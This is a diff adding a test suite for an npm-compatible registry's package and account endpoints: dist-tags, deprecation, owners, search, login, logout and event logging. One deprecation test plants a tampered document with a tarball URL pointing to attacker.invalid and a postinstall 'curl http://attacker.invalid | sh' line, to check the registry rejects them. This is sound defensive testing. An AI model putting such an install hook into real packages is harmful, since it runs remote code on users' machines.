@@ -1,0 +1,596 @@
+// Changes to published packages and accounts through the requests npm, yarn and pnpm send: dist-tags,
+// deprecation, owners, search, ping, whoami, login and logout. Every change writes exactly one event
+// of its type, a refused change writes none, and no event ever holds a token or a password.
+import type { LightMyRequestResponse } from 'fastify';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { ENGINES } from '../support/engines.js';
+import { startRegistry, type TestRegistry, type TestUser } from '../support/registry.js';
+import { packageBuilder, type PackageBuilder } from '../fixtures/package-builder.js';
+
+interface VersionDoc {
+  deprecated?: string;
+  dependencies?: Record<string, string>;
+  dist: { tarball: string; integrity: string };
+  [field: string]: unknown;
+}
+
+interface Packument {
+  _rev: string;
+  'dist-tags': Record<string, string>;
+  versions: Record<string, VersionDoc>;
+  time: Record<string, string>;
+  maintainers: { name: string; email: string }[];
+  [field: string]: unknown;
+}
+
+interface SearchAnswer {
+  total: number;
+  objects: { package: { name: string; maintainers: { username: string; email: string }[] } }[];
+}
+
+const escaped = (name: string) => name.replace('/', '%2f');
+const bearer = (token: string) => ({ authorization: `Bearer ${token}` });
+const json = { 'content-type': 'application/json' };
+
+function expectRefused(res: LightMyRequestResponse, status: number, word?: RegExp): void {
+  expect(res.statusCode, res.body).toBe(status);
+  if (word) expect(res.json<{ error: string }>().error).toMatch(word);
+}
+
+for (const engine of ENGINES) {
+  describe(`package and account changes (${engine})`, () => {
+    let r: TestRegistry;
+    let alice: TestUser;
+    let bob: TestUser;
+    let carol: TestUser;
+    /** Every token and password seen in this file: none may ever appear in an event. */
+    const secrets: string[] = [];
+
+    beforeAll(async () => {
+      r = await startRegistry(engine);
+      alice = await r.createUser('alice');
+      bob = await r.createUser('bob');
+      carol = await r.createUser('carol');
+      for (const u of [alice, bob, carol]) secrets.push(u.token, u.password);
+    });
+    afterAll(() => r.close());
+
+    async function publish(user: TestUser, builder: PackageBuilder, tag?: string) {
+      return r.inject({
+        method: 'PUT',
+        url: `/${escaped(builder.name)}`,
+        headers: bearer(user.token),
+        payload: builder.publishBody(r.url, tag === undefined ? {} : { tag }),
+      });
+    }
+
+    async function published(user: TestUser, builder: PackageBuilder, tag?: string) {
+      const res = await publish(user, builder, tag);
+      expect(res.statusCode, res.body).toBe(201);
+    }
+
+    async function packument(name: string): Promise<Packument> {
+      const res = await r.inject({ method: 'GET', url: `/${escaped(name)}?write=true` });
+      expect(res.statusCode, res.body).toBe(200);
+      return res.json<Packument>();
+    }
+
+    async function stateOf(name: string) {
+      const res = await r.inject({ method: 'GET', url: `/${escaped(name)}?write=true` });
+      return { document: `${res.statusCode} ${res.body}`, events: await r.registry.store.events.latestSeq() };
+    }
+
+    /** Runs `change` and returns the events it wrote, as {type, package, version, data}. */
+    async function eventsOf(change: () => Promise<unknown>) {
+      const since = await r.registry.store.events.latestSeq();
+      await change();
+      return (await r.registry.store.events.since(since, 1000)).map((e) => ({
+        type: e.type,
+        pkg: e.packageName,
+        version: e.version,
+        data: e.data,
+      }));
+    }
+
+    /** Sends the request, expects the refusal, and checks the package and the event log did not change. */
+    async function refuses(name: string, request: Parameters<TestRegistry['inject']>[0], status: number, word?: RegExp) {
+      const before = await stateOf(name);
+      const res = await r.inject(request);
+      expectRefused(res, status, word);
+      expect(await stateOf(name)).toEqual(before);
+    }
+
+    describe('dist-tags', () => {
+      beforeAll(async () => {
+        await published(alice, packageBuilder('@team/tagged', '1.0.0'));
+        await published(alice, packageBuilder('@team/tagged', '2.0.0-rc.1'), 'next');
+      });
+
+      const addTag = (user: TestUser, tag: string, version: string, path = '@team%2ftagged') =>
+        r.inject({
+          method: 'PUT',
+          url: `/-/package/${path}/dist-tags/${encodeURIComponent(tag)}`,
+          headers: { ...bearer(user.token), ...json },
+          payload: JSON.stringify(version),
+        });
+      const removeTag = (user: TestUser, tag: string, path = '@team%2ftagged') =>
+        r.inject({
+          method: 'DELETE',
+          url: `/-/package/${path}/dist-tags/${encodeURIComponent(tag)}`,
+          headers: bearer(user.token),
+        });
+      const listTags = (path: string) => r.inject({ method: 'GET', url: `/-/package/${path}/dist-tags` });
+
+      it('lists the dist-tags under every spelling of a scoped name clients send', async () => {
+        for (const path of ['@team%2ftagged', '@team%2Ftagged', '@team/tagged', '%40team%2Ftagged']) {
+          const res = await listTags(path);
+          expect(res.statusCode, path).toBe(200);
+          expect(res.json()).toEqual({ latest: '1.0.0', next: '2.0.0-rc.1' });
+        }
+      });
+
+      it('adds a tag, writing one dist_tag.set event', async () => {
+        const events = await eventsOf(async () => expect((await addTag(alice, 'beta', '2.0.0-rc.1')).statusCode).toBe(200));
+        expect(events).toEqual([{ type: 'dist_tag.set', pkg: '@team/tagged', version: '2.0.0-rc.1', data: { tag: 'beta' } }]);
+        expect((await listTags('@team/tagged')).json()).toEqual({ latest: '1.0.0', next: '2.0.0-rc.1', beta: '2.0.0-rc.1' });
+        expect((await packument('@team/tagged'))['dist-tags'].beta).toBe('2.0.0-rc.1');
+      });
+
+      it('moves and removes a tag through the raw scoped path yarn 1 builds', async () => {
+        expect((await addTag(alice, 'moving', '1.0.0', '@team/tagged')).statusCode).toBe(200);
+        expect((await addTag(alice, 'moving', '2.0.0-rc.1', '@team/tagged')).statusCode).toBe(200);
+        expect((await listTags('@team/tagged')).json<Record<string, string>>().moving).toBe('2.0.0-rc.1');
+        const events = await eventsOf(async () =>
+          expect((await removeTag(alice, 'moving', '@team/tagged')).statusCode).toBe(200),
+        );
+        expect(events).toEqual([
+          { type: 'dist_tag.removed', pkg: '@team/tagged', version: null, data: { tag: 'moving', was: '2.0.0-rc.1' } },
+        ]);
+        expect((await listTags('@team/tagged')).json<Record<string, string>>().moving).toBeUndefined();
+      });
+
+      it('refuses a tag that is a version range', async () => {
+        for (const tag of ['1.x', '2', 'v1.0.0', '1.0.0']) {
+          await refuses(
+            '@team/tagged',
+            {
+              method: 'PUT',
+              url: `/-/package/@team%2ftagged/dist-tags/${tag}`,
+              headers: { ...bearer(alice.token), ...json },
+              payload: '"1.0.0"',
+            },
+            400,
+            /range/,
+          );
+        }
+      });
+
+      it('refuses to remove latest', async () => {
+        await refuses(
+          '@team/tagged',
+          { method: 'DELETE', url: '/-/package/@team%2ftagged/dist-tags/latest', headers: bearer(alice.token) },
+          400,
+          /latest/,
+        );
+      });
+
+      it('refuses a tag pointing at a version that does not exist', async () => {
+        await refuses(
+          '@team/tagged',
+          {
+            method: 'PUT',
+            url: '/-/package/@team%2ftagged/dist-tags/ghost',
+            headers: { ...bearer(alice.token), ...json },
+            payload: '"9.9.9"',
+          },
+          404,
+          /9\.9\.9/,
+        );
+      });
+
+      it('answers 404 to removing a tag that does not exist', async () => {
+        await refuses(
+          '@team/tagged',
+          { method: 'DELETE', url: '/-/package/@team%2ftagged/dist-tags/nope', headers: bearer(alice.token) },
+          404,
+          /nope/,
+        );
+      });
+
+      it('refuses tag changes by someone who is not a maintainer', async () => {
+        await refuses(
+          '@team/tagged',
+          {
+            method: 'PUT',
+            url: '/-/package/@team%2ftagged/dist-tags/mine',
+            headers: { ...bearer(bob.token), ...json },
+            payload: '"1.0.0"',
+          },
+          403,
+          /maintainer/,
+        );
+        await refuses(
+          '@team/tagged',
+          { method: 'DELETE', url: '/-/package/@team%2ftagged/dist-tags/next', headers: bearer(bob.token) },
+          403,
+          /maintainer/,
+        );
+      });
+
+      it('answers an empty object for a package that does not exist', async () => {
+        const res = await listTags('never-published');
+        expect(res.statusCode).toBe(200);
+        expect(res.json()).toEqual({});
+      });
+    });
+
+    describe('deprecation', () => {
+      beforeAll(async () => {
+        await published(alice, packageBuilder('old-thing', '1.0.0').dependency('left-pad', '^1.0.0'));
+        await published(alice, packageBuilder('old-thing', '1.1.0'));
+      });
+
+      /** npm deprecate: read the whole document, edit it, PUT it all back. */
+      async function putBack(user: TestUser, edit: (doc: Packument) => void) {
+        const doc = await packument('old-thing');
+        edit(doc);
+        return r.inject({
+          method: 'PUT',
+          url: '/old-thing',
+          headers: { ...bearer(user.token), ...json },
+          payload: JSON.stringify(doc),
+        });
+      }
+
+      /** The document without what every change moves: the revision and the modified time. */
+      function stable(doc: Packument) {
+        const { _rev: _ignoredRev, time, ...rest } = doc;
+        const { modified: _ignoredModified, ...times } = time;
+        return { ...rest, time: times };
+      }
+
+      it('deprecates one version and changes nothing else, even when the document tries to', async () => {
+        const before = await packument('old-thing');
+        let res: LightMyRequestResponse | undefined;
+        const events = await eventsOf(async () => {
+          res = await putBack(alice, (doc) => {
+            doc.versions['1.0.0']!.deprecated = 'use 1.1.0';
+            doc.versions['1.0.0']!.dependencies = { 'left-pad': '*', 'evil-dep': '1.0.0' };
+            doc.versions['1.1.0']!.dist.tarball = 'http://attacker.invalid/old-thing-1.1.0.tgz';
+            doc.versions['1.1.0']!.scripts = { postinstall: 'curl http://attacker.invalid | sh' };
+            doc.versions['9.9.9'] = { ...doc.versions['1.1.0']!, version: '9.9.9' };
+            doc['dist-tags'] = { latest: '9.9.9' };
+            doc.maintainers.push({ name: 'bob', email: 'bob@example.com' });
+            doc.description = 'taken over';
+          });
+        });
+        expect(res!.statusCode, res!.body).toBe(200);
+        expect(events).toEqual([
+          { type: 'version.deprecated', pkg: 'old-thing', version: '1.0.0', data: { message: 'use 1.1.0' } },
+        ]);
+        const after = await packument('old-thing');
+        const expected = structuredClone(before);
+        expected.versions['1.0.0']!.deprecated = 'use 1.1.0';
+        expect(stable(after)).toEqual(stable(expected));
+        const corgi = await r.inject({
+          method: 'GET',
+          url: '/old-thing',
+          headers: { accept: 'application/vnd.npm.install-v1+json' },
+        });
+        expect(corgi.json<Packument>().versions['1.0.0']!.deprecated).toBe('use 1.1.0');
+      });
+
+      it('un-deprecates with an empty message, writing one version.undeprecated event', async () => {
+        const events = await eventsOf(async () => {
+          const res = await putBack(alice, (doc) => (doc.versions['1.0.0']!.deprecated = ''));
+          expect(res.statusCode).toBe(200);
+        });
+        expect(events).toEqual([{ type: 'version.undeprecated', pkg: 'old-thing', version: '1.0.0', data: {} }]);
+        expect((await packument('old-thing')).versions['1.0.0']!.deprecated).toBeUndefined();
+      });
+
+      it('refuses a deprecation by someone who is not a maintainer', async () => {
+        const doc = await packument('old-thing');
+        doc.versions['1.1.0']!.deprecated = 'hijacked';
+        await refuses(
+          'old-thing',
+          { method: 'PUT', url: '/old-thing', headers: { ...bearer(bob.token), ...json }, payload: JSON.stringify(doc) },
+          403,
+          /maintainer/,
+        );
+      });
+    });
+
+    describe('owners', () => {
+      beforeAll(async () => {
+        await published(alice, packageBuilder('shared', '1.0.0'));
+      });
+
+      /** npm owner add|rm: look the user up, read the document, PUT {_id, _rev, maintainers}. */
+      async function changeOwners(actor: TestUser, edit: (maintainers: { name: string; email: string }[]) => void) {
+        const doc = await r.inject({ method: 'GET', url: '/shared', headers: bearer(actor.token) });
+        const { _rev, maintainers } = doc.json<Packument>();
+        edit(maintainers);
+        return r.inject({
+          method: 'PUT',
+          url: `/shared/-rev/${encodeURIComponent(_rev)}`,
+          headers: { ...bearer(actor.token), ...json },
+          payload: JSON.stringify({ _id: 'shared', _rev, maintainers }),
+        });
+      }
+
+      it('shows a user to a signed-in client, with the email npm owner add needs', async () => {
+        const res = await r.inject({ method: 'GET', url: '/-/user/org.couchdb.user:bob', headers: bearer(alice.token) });
+        expect(res.statusCode).toBe(200);
+        expect(res.json()).toMatchObject({ name: 'bob', email: 'bob@example.com' });
+      });
+
+      it('shows only the name to an anonymous client', async () => {
+        const res = await r.inject({ method: 'GET', url: '/-/user/org.couchdb.user:bob' });
+        expect(res.statusCode).toBe(200);
+        expect(res.json()).toEqual({ name: 'bob' });
+      });
+
+      it('answers 404 for a user that does not exist', async () => {
+        const res = await r.inject({ method: 'GET', url: '/-/user/org.couchdb.user:nobody', headers: bearer(alice.token) });
+        expectRefused(res, 404, /nobody/);
+      });
+
+      it('refuses to add an unknown user as owner', async () => {
+        const before = await stateOf('shared');
+        expectRefused(await changeOwners(alice, (m) => m.push({ name: 'nobody', email: 'nobody@example.com' })), 404, /nobody/);
+        expect(await stateOf('shared')).toEqual(before);
+      });
+
+      it('refuses an owner change by someone who is not a maintainer', async () => {
+        const before = await stateOf('shared');
+        expectRefused(await changeOwners(bob, (m) => m.push({ name: 'bob', email: 'bob@example.com' })), 403, /maintainer/);
+        expectRefused(
+          await changeOwners(bob, (m) => m.splice(0, m.length, { name: 'bob', email: 'bob@example.com' })),
+          403,
+          /maintainer/,
+        );
+        expect(await stateOf('shared')).toEqual(before);
+        expectRefused(await publish(bob, packageBuilder('shared', '1.1.0')), 403);
+      });
+
+      it('adds an owner, who can then publish', async () => {
+        let res: LightMyRequestResponse | undefined;
+        const events = await eventsOf(
+          async () => (res = await changeOwners(alice, (m) => m.push({ name: 'bob', email: 'bob@example.com' }))),
+        );
+        expect(res!.statusCode, res!.body).toBe(200);
+        expect(events).toEqual([{ type: 'owner.added', pkg: 'shared', version: null, data: { user: 'bob' } }]);
+        expect((await packument('shared')).maintainers.map((m) => m.name)).toEqual(['alice', 'bob']);
+        await published(bob, packageBuilder('shared', '1.1.0'));
+      });
+
+      it('removes an owner, who then can no longer publish or manage the package', async () => {
+        let res: LightMyRequestResponse | undefined;
+        const events = await eventsOf(
+          async () =>
+            (res = await changeOwners(alice, (m) =>
+              m.splice(
+                m.findIndex((o) => o.name === 'bob'),
+                1,
+              ),
+            )),
+        );
+        expect(res!.statusCode, res!.body).toBe(200);
+        expect(events).toEqual([{ type: 'owner.removed', pkg: 'shared', version: null, data: { user: 'bob' } }]);
+        expect((await packument('shared')).maintainers.map((m) => m.name)).toEqual(['alice']);
+        expectRefused(await publish(bob, packageBuilder('shared', '1.2.0')), 403);
+        expectRefused(await changeOwners(bob, (m) => m.push({ name: 'bob', email: 'bob@example.com' })), 403);
+      });
+
+      it('refuses to remove the last owner', async () => {
+        const before = await stateOf('shared');
+        expectRefused(await changeOwners(alice, (m) => m.splice(0, m.length)), 400, /maintainer/);
+        expect(await stateOf('shared')).toEqual(before);
+      });
+    });
+
+    describe('search', () => {
+      beforeAll(async () => {
+        await published(carol, packageBuilder('fetchy-helper', '1.0.0').packageJson({ description: 'helps' }));
+        await published(carol, packageBuilder('best-fetchy', '1.0.0'));
+        await published(carol, packageBuilder('fetchy', '1.0.0').packageJson({ description: 'the one' }));
+        await published(carol, packageBuilder('fetchy-core', '1.0.0'));
+        await published(carol, packageBuilder('unrelated', '1.0.0').packageJson({ keywords: ['fetchy'] }));
+        await published(carol, packageBuilder('described', '1.0.0').packageJson({ description: 'a fetchy thing' }));
+        await published(carol, packageBuilder('nothing-alike', '1.0.0'));
+      });
+
+      const search = async (query: string) => {
+        const res = await r.inject({ method: 'GET', url: `/-/v1/search?${query}` });
+        expect(res.statusCode).toBe(200);
+        return res.json<SearchAnswer>();
+      };
+
+      it('ranks the exact name first, then names starting with the query, then the rest', async () => {
+        const answer = await search('text=fetchy&size=20');
+        const names = answer.objects.map((o) => o.package.name);
+        expect(answer.total).toBe(6);
+        expect(names[0]).toBe('fetchy');
+        expect(new Set(names.slice(1, 3))).toEqual(new Set(['fetchy-helper', 'fetchy-core']));
+        expect(new Set(names.slice(3))).toEqual(new Set(['best-fetchy', 'unrelated', 'described']));
+        expect(names.indexOf('best-fetchy')).toBe(3);
+        expect(names).not.toContain('nothing-alike');
+      });
+
+      it('pages with size and from', async () => {
+        const all = (await search('text=fetchy&size=20')).objects.map((o) => o.package.name);
+        const first = await search('text=fetchy&size=2');
+        const second = await search('text=fetchy&size=2&from=2');
+        const beyond = await search('text=fetchy&size=2&from=10');
+        expect(first.objects.map((o) => o.package.name)).toEqual(all.slice(0, 2));
+        expect(second.objects.map((o) => o.package.name)).toEqual(all.slice(2, 4));
+        expect(beyond.objects).toEqual([]);
+        expect([first.total, second.total, beyond.total]).toEqual([6, 6, 6]);
+      });
+
+      it('lists the maintainers of every hit, as npm search prints them', async () => {
+        for (const hit of (await search('text=fetchy')).objects) {
+          expect(hit.package.maintainers).toEqual([{ username: 'carol', email: 'carol@example.com' }]);
+        }
+      });
+    });
+
+    describe('ping, whoami, login and logout', () => {
+      it('answers ping', async () => {
+        const res = await r.inject({ method: 'GET', url: '/-/ping' });
+        expect(res.statusCode).toBe(200);
+        expect(typeof res.json()).toBe('object');
+      });
+
+      it('tells a token its user name, and refuses whoami without one', async () => {
+        const res = await r.inject({ method: 'GET', url: '/-/whoami', headers: bearer(alice.token) });
+        expect(res.statusCode).toBe(200);
+        expect(res.json()).toEqual({ username: 'alice' });
+        expectRefused(await r.inject({ method: 'GET', url: '/-/whoami' }), 401);
+      });
+
+      const login = (name: string, password: string) =>
+        r.inject({
+          method: 'PUT',
+          url: `/-/user/org.couchdb.user:${encodeURIComponent(name)}`,
+          headers: json,
+          payload: JSON.stringify({
+            _id: `org.couchdb.user:${name}`,
+            name,
+            password,
+            type: 'user',
+            roles: [],
+            date: new Date().toISOString(),
+          }),
+        });
+
+      it('logs in with the right password, answering 201 and a working token', async () => {
+        let res: LightMyRequestResponse | undefined;
+        const events = await eventsOf(async () => (res = await login('alice', alice.password)));
+        expect(res!.statusCode, res!.body).toBe(201);
+        const answer = res!.json<{ ok: boolean; id: string; token: string }>();
+        expect(answer).toMatchObject({ ok: true, id: 'org.couchdb.user:alice' });
+        secrets.push(answer.token);
+        expect(events.map((e) => e.type).sort()).toEqual(['token.created', 'user.login']);
+        const whoami = await r.inject({ method: 'GET', url: '/-/whoami', headers: bearer(answer.token) });
+        expect(whoami.json()).toEqual({ username: 'alice' });
+      });
+
+      it('refuses a wrong password and an unknown user with the same 401', async () => {
+        const before = await r.registry.store.events.latestSeq();
+        const wrong = await login('alice', 'not-the-password');
+        const unknown = await login('mallory', 'not-the-password');
+        expectRefused(wrong, 401);
+        expectRefused(unknown, 401);
+        expect(unknown.json()).toEqual(wrong.json());
+        expect(await r.registry.store.events.latestSeq()).toBe(before);
+        secrets.push('not-the-password');
+      });
+
+      it('logs out: the token stops working at once, other tokens keep working', async () => {
+        const session = (await login('bob', bob.password)).json<{ token: string }>().token;
+        secrets.push(session);
+        expect((await r.inject({ method: 'GET', url: '/-/whoami', headers: bearer(session) })).statusCode).toBe(200);
+        let res: LightMyRequestResponse | undefined;
+        const events = await eventsOf(
+          async () =>
+            (res = await r.inject({
+              method: 'DELETE',
+              url: `/-/user/token/${encodeURIComponent(session)}`,
+              headers: bearer(session),
+            })),
+        );
+        expect(res!.statusCode, res!.body).toBe(200);
+        expect(events.map((e) => e.type)).toEqual(['token.revoked']);
+        expectRefused(await r.inject({ method: 'GET', url: '/-/whoami', headers: bearer(session) }), 401);
+        expectRefused(await r.inject({ method: 'GET', url: '/shared', headers: bearer(session) }), 401);
+        expect((await r.inject({ method: 'GET', url: '/-/whoami', headers: bearer(bob.token) })).statusCode).toBe(200);
+      });
+
+      it("cannot log out someone else's token", async () => {
+        const before = await r.registry.store.events.latestSeq();
+        const res = await r.inject({
+          method: 'DELETE',
+          url: `/-/user/token/${encodeURIComponent(alice.token)}`,
+          headers: bearer(bob.token),
+        });
+        expectRefused(res, 404);
+        expect(await r.registry.store.events.latestSeq()).toBe(before);
+        expect((await r.inject({ method: 'GET', url: '/-/whoami', headers: bearer(alice.token) })).statusCode).toBe(200);
+      });
+    });
+
+    describe('events under concurrency', () => {
+      it('writes one event per change when many changes land at once', async () => {
+        await published(alice, packageBuilder('busy', '1.0.0'));
+        const since = await r.registry.store.events.latestSeq();
+        const tags = Array.from({ length: 8 }, (_, i) => `t${i}`);
+        const versions = Array.from({ length: 6 }, (_, i) => `1.0.${i + 1}`);
+        const results = await Promise.all([
+          ...tags.map((tag) =>
+            r.inject({
+              method: 'PUT',
+              url: `/-/package/busy/dist-tags/${tag}`,
+              headers: { ...bearer(alice.token), ...json },
+              payload: '"1.0.0"',
+            }),
+          ),
+          ...versions.map((v) => publish(alice, packageBuilder('busy', v))),
+        ]);
+        expect(results.map((res) => res.statusCode)).toEqual([...tags.map(() => 200), ...versions.map(() => 201)]);
+        const events = await r.registry.store.events.since(since, 1000);
+        expect(new Set(events.map((e) => e.seq)).size).toBe(events.length);
+        expect(
+          events
+            .filter((e) => e.type === 'dist_tag.set')
+            .map((e) => e.data.tag)
+            .sort(),
+        ).toEqual(tags);
+        expect(
+          events
+            .filter((e) => e.type === 'package.published')
+            .map((e) => e.version)
+            .sort(),
+        ).toEqual(versions);
+        expect(events).toHaveLength(tags.length + versions.length);
+        const doc = await packument('busy');
+        expect(Object.keys(doc.versions).sort()).toEqual(['1.0.0', ...versions]);
+      });
+
+      it('lets exactly one of many simultaneous publishes of one version through', async () => {
+        const since = await r.registry.store.events.latestSeq();
+        const results = await Promise.all(
+          Array.from({ length: 6 }, (_, i) =>
+            publish(alice, packageBuilder('contested', '1.0.0').file('index.js', `variant ${i}`)),
+          ),
+        );
+        const statuses = results.map((res) => res.statusCode).sort();
+        expect(statuses).toEqual([201, 409, 409, 409, 409, 409]);
+        const events = await r.registry.store.events.since(since, 1000);
+        expect(events.map((e) => `${e.type} ${e.version}`)).toEqual(['package.published 1.0.0']);
+        const winner = results.findIndex((res) => res.statusCode === 201);
+        const tgz = await r.inject({ method: 'GET', url: '/contested/-/contested-1.0.0.tgz' });
+        expect(tgz.rawPayload.equals(packageBuilder('contested', '1.0.0').file('index.js', `variant ${winner}`).tarball())).toBe(
+          true,
+        );
+      });
+    });
+
+    it('never records a token or a password in an event', async () => {
+      const tokens = await r.registry.store.transaction(async (tx) => {
+        const issued = await r.registry.tokens.create(tx, carol.user, { reason: 'scan' });
+        return [issued.secret];
+      });
+      secrets.push(...tokens);
+      const events = await r.registry.store.events.since(0, 10_000);
+      expect(events.length).toBeGreaterThan(20);
+      for (const event of events) {
+        const text = JSON.stringify(event);
+        for (const secret of secrets) expect(text, `${event.type} event`).not.toContain(secret);
+        // Not even a fragment long enough to narrow a token down: the display prefix is at most gth_ + 4.
+        expect(text).not.toMatch(/gth_[0-9A-Za-z]{5,}/);
+      }
+    });
+  });
+}
